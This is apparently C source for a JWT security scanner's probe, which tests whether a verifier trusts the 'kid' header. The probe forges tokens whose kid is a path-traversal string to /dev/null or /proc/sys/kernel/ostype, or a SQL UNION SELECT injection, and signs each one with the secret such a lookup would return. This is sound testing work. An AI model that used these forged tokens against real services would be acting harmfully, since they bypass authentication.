/* SPDX-License-Identifier: Apache-2.0 */
/* Does the key's name lead the verifier to a key of ours? */
#include "scan/forgery/forgery.h"

/* As long as the longest hash wants it. */
#define SECRET "postern-made-this-secret-up-to-be-selected-by-a-careless-database"

/* What the kid says, and the secret that a careless lookup would find there. */
static const struct {
    const char *kid;
    struct span secret;
    const char *label;
    enum battery battery;
} KIDS[] = {
    {"../../../../../../../../dev/null", SPAN_INIT(""), "a path to an empty file", BATTERY_SHORT},
    {"/dev/null", SPAN_INIT(""), "a path to an empty file", BATTERY_FULL},
    {"../../../../../../../../proc/sys/kernel/ostype", SPAN_INIT("Linux\n"),
     "a path to a file with known content", BATTERY_FULL},
    {"../../../../../../../../proc/sys/kernel/ostype", SPAN_INIT("Linux"),
     "a path to a file with known content", BATTERY_FULL},
    {"/proc/sys/kernel/ostype", SPAN_INIT("Linux\n"), "a path to a file with known content",
     BATTERY_FULL},
    {"/proc/sys/kernel/ostype", SPAN_INIT("Linux"), "a path to a file with known content",
     BATTERY_FULL},
    {"postern' UNION SELECT '" SECRET, SPAN_INIT(SECRET), "SQL that selects a secret",
     BATTERY_SHORT},
    {"postern' UNION SELECT '" SECRET "' -- ", SPAN_INIT(SECRET), "SQL that selects a secret",
     BATTERY_FULL},
    {"postern\" UNION SELECT \"" SECRET, SPAN_INIT(SECRET), "SQL that selects a secret",
     BATTERY_FULL},
    {"postern' UNION SELECT '" SECRET "','" SECRET "' -- ", SPAN_INIT(SECRET),
     "SQL that selects a secret", BATTERY_FULL},
    {"postern' UNION SELECT 1,'" SECRET "' -- ", SPAN_INIT(SECRET), "SQL that selects a secret",
     BATTERY_FULL},
    {"postern' UNION SELECT 1,'" SECRET "',1 -- ", SPAN_INIT(SECRET), "SQL that selects a secret",
     BATTERY_FULL},
    {"0 UNION SELECT '" SECRET "'", SPAN_INIT(SECRET), "SQL that selects a secret", BATTERY_FULL},
};

static enum err forge(struct subject *subject, const struct forgery *forgery) {
    struct arena *arena = subject_arena(subject);
    bool keeps = alg_info(forgery->jws.alg)->family == FAMILY_HMAC;
    enum alg alg = keeps ? forgery->jws.alg : ALG_HS256;
    for (size_t i = 0; i < sizeof(KIDS) / sizeof(*KIDS); i++) {
        struct edit edits[] = {
            {SPAN("alg"), forgery_alg(subject, forgery, alg)},
            {SPAN("kid"), forge_string(arena, span_from(KIDS[i].kid))},
        };
        struct forgery_change change = {.header = edits,
                                        .header_n = 2,
                                        .signer = {.alg = alg, .secret = KIDS[i].secret},
                                        .alone = true};
        struct span token;
        TRY(forgery_make(subject, forgery, &change, &token));
        struct attack attack = {
            .label = arena_printf(arena, "kid is %s", KIDS[i].label),
            .cause = SPAN("kid"),
            .battery = KIDS[i].battery,
            .message =
                arena_printf(arena,
                             "The key id is used to look the key up without care: with %s in "
                             "it, a token signed with a secret of ours is accepted.",
                             KIDS[i].label),
        };
        TRY(forgery_attack(subject, &jwt_kid_injection, forgery, token, attack));
    }
    return OK;
}

static const struct rule rule = {
    .id = "jwt-kid-injection",
    .group = "jwt",
    .severity = SEVERITY_CRITICAL,
    .title = "The key id leads the verifier to a key of the attacker's",
    .cwe = {"CWE-347"},
    .owasp = "API2:2023",
    .why = "The kid header is the attacker's text. Used as a file name it points to a file whose "
           "content he knows; used in a query it selects a secret that he wrote. Then he signs "
           "with that.",
    .how = "The accepted identity's own token is sent with a kid that is a path to an empty file "
           "or to one of known content, or SQL that selects a constant, and signed with what would "
           "be found there. It fires when one is accepted while a blank secret alone is refused.",
    .fix = "Look the kid up in a dictionary of the keys that you have, and refuse what is not in "
           "it. Never put it into a path, a query or a URL (RFC 8725, section 3.10).",
};

const struct probe jwt_kid_injection = {.rule = &rule,
                                        .needs = NEEDS_SECURITY | NEEDS_REFUSAL | NEEDS_VALID,
                                        .opens = true,
                                        .cause = &jwt_blank_secret,
                                        .forge = forge};
